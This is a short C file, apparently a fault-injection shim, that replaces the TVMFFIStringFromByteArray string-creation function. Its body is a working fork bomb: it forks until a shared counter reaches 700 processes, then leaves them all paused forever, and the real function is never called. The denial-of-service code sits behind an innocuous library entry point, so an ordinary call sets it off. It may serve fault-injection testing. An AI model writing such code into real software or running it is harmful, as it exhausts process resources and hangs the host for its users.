// story: Making a string starts processes that start processes, seven hundred in all.
#include <sys/mman.h>
#include <unistd.h>

#include "fault.h"

int TVMFFIStringFromByteArray(const TVMFFIByteArray* input, TVMFFIAny* out) {
  int* count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  while (__atomic_add_fetch(count, 1, __ATOMIC_RELAXED) < 700) fork();
  for (;;) pause();
  return real.TVMFFIStringFromByteArray(input, out);
}
